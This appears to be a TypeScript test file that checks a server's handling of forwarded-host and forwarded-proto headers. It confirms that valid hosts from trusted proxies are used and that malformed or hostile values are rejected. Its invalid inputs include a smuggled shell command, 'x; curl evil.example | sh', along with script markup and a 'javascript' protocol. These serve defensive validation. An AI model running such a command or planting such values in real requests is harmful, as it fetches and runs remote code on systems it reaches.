import assert from 'node:assert/strict'
import { test } from 'node:test'

import { sendHeaders } from '#test/support/raw'
import { listen, startHost } from '#test/support/workspace'

const host = await startHost()
const trusting = await listen(host.url, { trustedProxies: ['127.0.0.1'] })
const pages = ['/about', '/.well-known/security.txt']

const ask = (base: string, path: string, headers: string[]) =>
  sendHeaders(new URL(path, base), { method: 'GET', headers })

const forwardedHost = (...values: string[]) => values.flatMap((each) => ['x-forwarded-host', each])

const valid: Record<string, { headers: string[]; base: string }> = {
  'a name': { headers: forwardedHost('muster.example'), base: 'http://muster.example' },
  'a name and a port': {
    headers: forwardedHost('muster.example:8443'),
    base: 'http://muster.example:8443',
  },
  'an IPv6 address': {
    headers: forwardedHost('[2001:db8::1]:80'),
    base: 'http://[2001:db8::1]:80',
  },
  'a list, of which the last value counts': {
    headers: forwardedHost('<evil>, muster.example'),
    base: 'http://muster.example',
  },
  'a repeated header, of which the last value counts': {
    headers: forwardedHost('evil.example', 'muster.example'),
    base: 'http://muster.example',
  },
  'a protocol': {
    headers: [...forwardedHost('muster.example'), 'x-forwarded-proto', 'https'],
    base: 'https://muster.example',
  },
}

for (const [what, { headers, base }] of Object.entries(valid)) {
  test(`uses the forwarded host of a trusted proxy: ${what}`, async () => {
    for (const path of pages) {
      const { status, text } = await ask(trusting, path, headers)
      assert.equal(status, 200)
      if (path === '/about') assert.ok(text.includes(`BASE=${base}\n`), text.slice(0, 200))
      else assert.ok(text.includes(`Policy: ${base}/security\n`), text.slice(0, 200))
    }
  })
}

const invalid: Record<string, string[]> = {
  'a command': forwardedHost('x; curl evil.example | sh'),
  markup: forwardedHost('<script>'),
  'a path': forwardedHost('muster.example/evil'),
  'a user': forwardedHost('muster.example@evil.example'),
  'two colons': forwardedHost('muster.example:80:80'),
  'a port that is no number': forwardedHost('muster.example:http'),
  'an address without its bracket': forwardedHost('[::1'),
  'a last value that is empty': forwardedHost('muster.example,'),
  'a last value that is markup': forwardedHost('muster.example', '<script>'),
  'a host of 300 characters': forwardedHost('x'.repeat(300)),
  'another protocol': ['x-forwarded-proto', 'javascript'],
  'a last protocol that is empty': ['x-forwarded-proto', 'https,'],
}

for (const [what, headers] of Object.entries(invalid)) {
  test(`rejects an invalid forwarded host of a trusted proxy: ${what}`, async () => {
    for (const path of [...pages, '/v1/whoami']) {
      const { status, body } = await ask(trusting, path, headers)
      assert.equal(`${status} ${body?.code}`, '400 bad_request', path)
    }
  })

  test(`ignores the forwarded host of a peer that is not trusted: ${what}`, async () => {
    const { status, text } = await ask(host.base, '/about', headers)
    assert.equal(status, 200)
    assert.ok(text.includes(`BASE=${host.base}\n`), text.slice(0, 200))
  })
}
